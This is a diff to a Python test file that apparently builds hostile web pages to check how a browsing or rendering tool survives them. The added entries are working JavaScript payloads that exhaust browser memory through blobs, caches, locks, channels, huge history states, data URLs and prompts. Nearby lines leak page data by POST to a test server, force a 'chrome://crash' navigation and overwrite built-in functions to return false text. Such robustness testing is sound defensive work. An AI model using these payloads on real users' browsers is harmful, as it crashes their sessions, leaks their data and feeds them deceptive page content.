@@ -13,6 +13,13 @@ def script(code: str) -> str:
     return f"<!doctype html><title>t</title><p>visible text<script>{code}</script>"
 
 
+def _while_open(code: str) -> str:
+    """Return a page that is still loading while it does harm."""
+    return script(
+        f"(async()=>{{try{{{code}}}catch(e){{}};await fetch('/slow/3000')}})()"
+    )
+
+
 _LEAK = "const leak=t=>fetch('/leak/@N',{method:'POST',body:String(t).slice(0,300)});"
 _IN_WORKER = "fetch('@I/hit/@N').then(r=>r.text()).then(t=>fetch('@S/leak/@N',{method:'POST',body:t}))"
 _PEER = (
@@ -256,6 +263,21 @@ HARM: dict[str, str] = {
     "a download of 200 MB": _link("{href:URL.createObjectURL(new Blob([new Uint8Array(2e8)])),download:'x'}"),
     "full storage": script("(async()=>{let r=await navigator.storage.getDirectory();let h=await r.getFileHandle('x',"
     "{create:true});let w=await h.createWritable();let b=new Uint8Array(2e7);for(let i=0;i<100;i++)await w.write(b)})()"),
+    "endless fragments": script("setInterval(()=>{for(let i=0;i<60000;i++)location.hash='part'+i},2)"),
+    "large states of history": _while_open("for(let i=0;i<40;i++)history.pushState('s'.repeat(9e6)+i,'')"),
+    "one huge URL": script("fetch('data:text/plain,'+'u'.repeat(9e7)).catch(()=>0)"),
+    "one huge URL of a frame": script("let f=document.createElement('iframe');document.body.append(f);"
+    "f.src='data:text/html,'+'u'.repeat(9e7)"),
+    "one huge event": script("new EventSource('/events/x')"),
+    "one huge question": script("prompt('q'.repeat(6e7),'a'.repeat(6e7))"),
+    "full memory: blobs": _while_open("window.a=[];for(let i=0;i<1500;i++){a.push(new Blob([new Uint8Array(1e6)"
+    ".fill(i)]));if(i%25==0)await new Promise(r=>setTimeout(r,1))}"),
+    "full memory: caches": _while_open("let c=await caches.open('c');for(let i=0;i<100;i++)"
+    "await c.put('/part/'+i,new Response(new Uint8Array(15e6)))"),
+    "full memory: locks": _while_open("for(let i=0;i<20000;i++)navigator.locks.request('n'.repeat(5e4)+i,"
+    "()=>new Promise(()=>0))"),
+    "full memory: channels": _while_open("window.a=[];for(let i=0;i<1500;i++)a.push(new BroadcastChannel("
+    "'n'.repeat(4e5)+i))"),
     "a crash": script("location='chrome://crash'"),
     "functions replaced": script("Object.defineProperty(Element.prototype,'outerHTML',{get(){return 'LIES'}});"
     "XMLSerializer.prototype.serializeToString=()=>'LIES';String.prototype.slice=()=>'LIES';"
